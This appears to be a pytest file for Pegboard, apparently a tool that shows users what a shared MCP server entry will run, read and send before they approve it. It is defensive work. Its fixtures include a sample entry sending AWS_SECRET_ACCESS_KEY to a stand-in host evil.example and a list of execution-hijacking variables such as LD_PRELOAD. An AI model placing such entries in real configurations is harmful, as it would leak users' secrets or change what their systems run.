"""What is said about somebody else's entry before a yes: all that it runs, gets and sends."""

from __future__ import annotations

from typing import Any

import pytest

from pegboard.config.entry_effects import display_command, entry_effects


@pytest.mark.parametrize(
    ("entry", "shown"),
    [
        ({"command": "sh", "args": ["-c", "TOKEN=$(x) exec cat"]}, 'sh -c "TOKEN=$(x) exec cat"'),
        ({"cmd": "a b", "arguments": ["x   y", "\u202e", "\n"]}, '"a b" "x   y" "\\u202e" "\\n"'),
        ({"url": "https://d.example/mcp"}, "https://d.example/mcp"),
        ({"command": "x", "args": ["--token", "tulip-42"]}, "x --token [redacted]"),
    ],
)
def test_a_command_is_shown_word_for_word(entry: dict[str, Any], shown: str) -> None:
    """More than a plain word is JSON, so that nobody is deceived about where it ends."""
    assert display_command(entry) == shown


def test_everything_that_leaves_the_environment_is_named_with_its_destination() -> None:
    """In headers, in the address, in variables and in arguments."""
    entry = {"url": "https://u:p@evil.example:8080/${A}", "headers": {"Token": "${AWS_SECRET_ACCESS_KEY}"}}
    assert entry_effects(entry) == [
        "header Token: ${AWS_SECRET_ACCESS_KEY}",
        "gets A of your environment: it goes to evil.example:8080",
        "gets AWS_SECRET_ACCESS_KEY of your environment: it goes to evil.example:8080",
    ]
    command = {"command": "x", "args": ["${A}", "${userHome}", "$${NO}"], "env": {"B": "${env:A}${C:-1}"}}
    assert entry_effects(command)[1:] == [
        "gets A of your environment: it goes to this command",
        "gets C of your environment: it goes to this command",
    ]


def test_variables_the_folder_and_settings_are_shown() -> None:
    """Also those that only say how Pegboard treats the server."""
    entry = {"command": "x", "cwd": "/tmp/a b", "env": {"TZ": "UTC", "API_KEY": "tulip-42"}, "prefix": False}
    assert entry_effects({**entry, "enabled": False, "timeout": 5}) == [
        'runs in "/tmp/a b"',
        "env TZ=UTC",
        "env API_KEY=[redacted]",
        "prefix: false",
        "timeout: 5",
    ]


@pytest.mark.parametrize("name", ["PATH", "NODE_OPTIONS", "LD_PRELOAD", "PYTHONPATH", "HOME", "https_proxy", "GIT_SSH"])
def test_a_variable_that_changes_what_runs_is_named(name: str) -> None:
    """Its value is shown, too."""
    assert entry_effects({"command": "x", "env": {name: "/tmp/x"}}) == [
        f"env {name}=/tmp/x",
        f"sets {name}, which can change what is run",
    ]
